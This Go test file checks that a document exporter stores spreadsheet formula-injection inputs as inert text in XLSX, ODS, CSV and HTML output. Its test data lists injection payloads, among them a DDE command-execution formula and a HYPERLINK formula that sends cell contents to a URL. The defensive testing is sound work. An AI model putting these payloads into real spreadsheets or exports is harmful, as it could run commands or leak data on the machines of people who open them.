// SPDX-License-Identifier: EUPL-1.2

package document

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/insegel/insegel/internal/document/documenttest"
)

// attacks are texts that some spreadsheet takes for a formula.
var attacks = []struct {
	name, text string
	inside     bool // dangerous only if the field could be broken out of
}{
	{"equals", "=1+1", false},
	{"plus", "+1+1", false},
	{"minus", "-1+1", false},
	{"at", "@SUM(1,1)", false},
	{"tab", "\t=1+1", false},
	{"carriage return", "\r=1+1", false},
	{"newline", "\n=1+1", false},
	{"space", " =1+1", false},
	{"no-break space", "\u00a0=1+1", false},
	{"byte order mark", "\ufeff=1+1", false},
	{"zero width space", "\u200b=1+1", false},
	{"dropped control character", "\x00=1+1", false},
	{"full width", "＝1+1", false},
	{"link", `=HYPERLINK("https://example.se/?"&A1,"x")`, false},
	{"exchange", `=cmd|' /C calc'!A0`, false},
	{"quote and separator", "\";=1+1;\"", true},
	{"comma", "a,=1+1", true},
}

// harmless are texts that only look odd.
var harmless = []string{"", "a", "1+1", "a=b", "'=1", "–1", "(=1)", "🙂=1", "007"}

func TestRisky(t *testing.T) {
	for _, a := range attacks {
		if got := risky(a.text); got == a.inside {
			t.Errorf("%s: risky(%q) = %v, want %v", a.name, a.text, got, !a.inside)
		}
	}
	for _, s := range harmless {
		if risky(s) {
			t.Errorf("risky(%q) = true, want false", s)
		}
	}
}

// attacked is a document with every attack everywhere text can stand.
func attacked() *Document {
	d := &Document{Lang: "sv", Title: "=1+1", Subtitle: "=1+2", Status: "=1+3", Author: "=1+4"}
	table := &Table{Name: "=1+5", Caption: "=1+6", Columns: []Column{{Header: "=1+7"}, {Header: "+1+7", Kind: Number}, {Header: "@A1", Kind: Date}}}
	value := 5.0
	for _, a := range attacks {
		table.Rows = append(table.Rows, []Cell{T(a.text), {Text: a.text, Number: nil, Strong: true}, L(a.text, "https://example.se/")})
		d.Properties = append(d.Properties, Property{a.text, a.text})
	}
	table.Rows = append(table.Rows, []Cell{{Text: "=1+8", Number: &value}})
	d.Sections = []Section{{Heading: "=1+9", Paragraphs: []string{"=1+10", "+1"}, Table: table}}
	return d
}

func TestXLSXTypesTextAsText(t *testing.T) {
	f, err := excelize.OpenFile(save(t, attacked(), XLSX))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, a := range attacks {
		for _, column := range []string{"A", "B", "C"} {
			at := column + strconv.Itoa(i+2)
			formula, err := f.GetCellFormula("=1+5", at)
			if err != nil || formula != "" {
				t.Errorf("%s in %s has formula %q, %v; want none", a.name, at, formula, err)
			}
			kind, err := f.GetCellType("=1+5", at)
			if err != nil || kind != excelize.CellTypeInlineString {
				t.Errorf("%s in %s has type %v, %v; want a string", a.name, at, kind, err)
			}
			if got, err := f.GetCellValue("=1+5", at); err != nil || got != clean(a.text) {
				t.Errorf("%s in %s = %q, %v; want %q", a.name, at, got, err, clean(a.text))
			}
			id, err := f.GetCellStyle("=1+5", at)
			if err != nil {
				t.Fatal(err)
			}
			quoted := f.Styles.CellXfs.Xf[id].QuotePrefix
			if marked := quoted != nil && *quoted; marked != risky(a.text) {
				t.Errorf("%s in %s is marked as text: %v, want %v", a.name, at, marked, risky(a.text))
			}
		}
	}
}

func TestODSTypesTextAsText(t *testing.T) {
	content := unzip(t, write(t, attacked(), ODS))["content.xml"]
	if strings.Contains(content, "formula") {
		t.Error("content.xml has a formula, want none")
	}
	typed := strings.Count(content, `office:value-type="string"`)
	if want := 3 * len(attacks); typed < want {
		t.Errorf("content.xml has %d strings, want at least %d", typed, want)
	}
}

func TestCSVPutsApostropheBeforeFormulas(t *testing.T) {
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(write(t, attacked(), CSV)), "\ufeff")))
	r.Comma = ';'
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := len(records), len(attacks)+2; got != want {
		t.Fatalf("%d records, want %d", got, want)
	}
	if got := strings.Join(records[0], ";"); got != "'=1+7;'+1+7;'@A1" {
		t.Errorf("headers are %q, want them guarded", got)
	}
	for i, a := range attacks {
		want := clean(a.text)
		if risky(a.text) {
			want = "'" + want
		}
		for c, got := range records[i+1] {
			if got != want {
				t.Errorf("%s in column %d = %q, want %q", a.name, c+1, got, want)
			}
		}
	}
}

func TestCSVLeavesNumbersAlone(t *testing.T) {
	d := &Document{Lang: "en", Sections: []Section{{Table: &Table{
		Columns: []Column{{Header: "n", Kind: Number}}, Rows: [][]Cell{{N(-5)}, {}, {T("-5")}},
	}}}}
	if got, want := string(write(t, d, CSV)), "\ufeffn\r\n-5\r\n\"\"\r\n'-5\r\n"; got != want {
		t.Errorf("CSV = %q, want %q", got, want)
	}
}

// TestNoSpreadsheetEvaluates opens the attacks in LibreOffice, which reads web
// pages and CSV files as spreadsheets too.
func TestNoSpreadsheetEvaluates(t *testing.T) {
	for _, f := range []Format{XLSX, ODS, CSV, HTML} {
		t.Run(string(f), func(t *testing.T) {
			for _, s := range documenttest.Rows(t, save(t, attacked(), f)) {
				if len(s.Formulas) > 0 {
					t.Errorf("sheet %q has formulas %q, want none", s.Name, s.Formulas)
				}
			}
		})
	}
	t.Run("the test would see one", func(t *testing.T) {
		path := filepath.Join(t.TempDir(), "unguarded.csv")
		if err := os.WriteFile(path, []byte("=1+1\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		if s := documenttest.Rows(t, path); len(s) != 1 || len(s[0].Formulas) != 1 {
			t.Errorf("an unguarded formula is read as %+v, want one formula", s)
		}
	})
}

func TestXLSXCutsLongText(t *testing.T) {
	for lang, end := range map[string]string{"sv": "… (avkortat)", "en": "… (cut)"} {
		d := &Document{Lang: lang, Sections: []Section{{Table: &Table{
			Name: "T", Columns: []Column{{Header: "a"}},
			Rows: [][]Cell{{T(strings.Repeat("å", maxCellText))}, {T(strings.Repeat("å", maxCellText+1))}, {T(strings.Repeat("😀", maxCellText))}},
		}}}}
		f, err := excelize.OpenFile(save(t, d, XLSX))
		if err != nil {
			t.Fatal(err)
		}
		rows, err := f.GetRows("T")
		if err != nil {
			t.Fatal(err)
		}
		_ = f.Close() // read to its end
		for i, want := range []string{
			strings.Repeat("å", maxCellText),
			strings.Repeat("å", maxCellText-len([]rune(end))) + end,
			strings.Repeat("😀", (maxCellText-len([]rune(end)))/2) + end,
		} {
			if got := rows[i+1][0]; got != want {
				t.Errorf("%s row %d has %d characters and ends with %q, want %d and %q", lang, i+1,
					len([]rune(got)), got[max(0, len(got)-20):], len([]rune(want)), want[len(want)-20:])
			}
		}
	}
}
